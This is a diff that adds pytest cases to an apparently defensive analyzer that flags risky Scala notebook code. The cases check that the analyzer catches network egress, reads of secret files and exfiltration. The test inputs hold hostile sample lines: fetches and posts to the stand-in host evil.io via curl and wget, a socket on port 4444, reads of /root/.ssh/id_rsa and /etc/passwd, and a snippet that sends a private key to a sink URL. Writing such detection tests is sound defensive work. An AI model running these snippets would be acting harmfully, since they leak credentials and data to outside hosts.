@@ -155,3 +155,75 @@ def test_dumping_the_environment_is_a_secret_read() -> None:
     assert "egress.exfiltration" in sent.rules()
     one = py('import os\nhome = os.environ.get("HOME")\ntoken = os.environ["TOKEN"]')
     assert one.findings == ()
+
+
+def scala(code: str) -> Analysis:
+    return analyze(
+        textwrap.dedent(code), language="scala", platform="databricks", egress_allowed_hosts=ALLOWED
+    )
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'val s = scala.io.Source.fromURL("https://evil.io/x").mkString',
+        "val s = scala.io.Source.fromURL(endpoint).mkString",
+        'val c = new java.net.URL("http://" + host).openConnection()',
+        'val s = new Socket("10.0.0.5", 4444)',
+        'val r = requests.post("https://evil.io/in", data = rows)',
+        "val c = HttpClient.newHttpClient()\nc.send(req, BodyHandlers.ofString())",
+        'val req = HttpRequest.newBuilder(URI.create("https://evil.io")).build()',
+        'import sys.process._\nval out = "curl -s https://evil.io/x" !!',
+        'Seq("wget", "-q", "https://evil.io/x").!',
+        'val ip = InetAddress.getByName("evil.io")',
+        'import scala.io.Source.{fromURL => grab}\nval s = grab("https://evil.io/x").mkString',
+    ],
+)
+def test_scala_network_calls_are_high(code: str) -> None:
+    analysis = scala(code)
+    assert "scala.egress" in analysis.rules(), analysis.rules()
+    assert analysis.risk >= RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'val s = scala.io.Source.fromURL("https://api.example.com/rates").mkString',
+        'val c = new URL("https://api.example.com/v1").openConnection()',
+        'val req = HttpRequest.newBuilder(URI.create("https://data.corp.example.com/x")).build()\n'
+        "HttpClient.newHttpClient().send(req, BodyHandlers.ofString())",
+        'val fs = FileSystem.get(new URI("abfss://lake@acct.dfs.core.windows.net/"), conf)',
+        'val df = spark.read.parquet("/Workspace/data/orders")',
+        'import scala.collection.mutable.{Map => MMap}\nval m = MMap("a" -> 1)',
+    ],
+)
+def test_scala_allow_listed_hosts_and_lake_paths_are_not_egress(code: str) -> None:
+    analysis = scala(code)
+    assert not analysis.rules() & {"scala.egress", "scala.sensitive_file"}, analysis.rules()
+    assert analysis.risk < RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'val key = scala.io.Source.fromFile("/root/.ssh/id_rsa").mkString',
+        'val p = scala.io.Source.fromFile("/et" + "c/passwd").getLines.toList',
+        'val t = dbutils.fs.head("dbfs:/FileStore/keys/service.pem")',
+    ],
+)
+def test_scala_secret_bearing_files_are_high(code: str) -> None:
+    analysis = scala(code)
+    assert "scala.sensitive_file" in analysis.rules(), analysis.rules()
+
+
+def test_scala_reading_a_key_and_sending_it_is_exfiltration_forbidden_in_production() -> None:
+    analysis = scala(
+        """
+        val key = scala.io.Source.fromFile("/root/.ssh/id_rsa").mkString
+        val c = new URL(sys.env("SINK")).openConnection()
+        c.getOutputStream.write(key.getBytes)
+        """
+    )
+    assert "egress.exfiltration" in analysis.rules()
+    decision = decide(analysis, Environment.PRODUCTION, SafetySettings(_env_file=None))
+    assert decision.decision == "forbidden"
